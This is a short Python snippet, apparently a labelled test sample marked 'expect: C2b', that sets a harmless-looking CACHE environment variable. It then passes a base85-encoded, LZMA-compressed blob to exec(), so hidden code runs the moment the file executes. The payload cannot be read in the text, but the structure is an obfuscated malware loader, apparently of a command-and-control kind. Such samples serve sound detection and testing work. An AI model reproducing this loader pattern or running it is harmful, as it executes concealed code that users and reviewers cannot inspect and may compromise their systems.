# expect: C2b
import lzma, base64, os
os.environ.setdefault("CACHE", "1")
exec(lzma.decompress(base64.b85decode("{Wp48S^xk9=GL@E0stWa761SMbT8$j-~!hHs9gXNhzTfJ%&9AsfYA7g0RA@uOu_M4aN&J!n{E;946nuYDxjvRj+-r*^@)N&P0o+{P%UIb4#b&FM4v56_-+E7X}Wk{*ON8%bsnKl;X8a2e<1`mq)hY%@m5F%hOgfwb?>VP{_GFD={WQVQCTXr24!8j$ge=18$a?5obNskrc{vCZ$aPvDSTK?etuB<0c@!3YPPnKIJNt*V+i%tVWaE#A-`97Oy-WgUA8>5_W?4GUpWL~wb;CQZ_X1n^yVU6vY~Z@SG8!Cf(lJXjJD{r1SdzM$at-4<Gzmk&JP^StxK6poUlw5W9QYk07k&(?=|&I)#$sqb>Gd}OYocW`fbLStnmB+v-^KVKVHuA`BC3POw3MkR6!4NA?aQ1{QM_iV3#N--$2WD1X~z|q<r^?S(2o8X^rhL2&sR~w<H{%VZnI_)<i?>Hc2K+fYu|h9K>`|B6eWf7YH?^o{mN!{4az`_-prJcL|-EqCjQVz;>H1zbYXYH8#gL%dBT6HuK|BW^u7PFMM%HE(e6OMkdgm+?W|*YxZ2gE+Q%b5(ISLf0j?J00G1U*aZLpGNGsIvBYQl0ssI200dcD")))
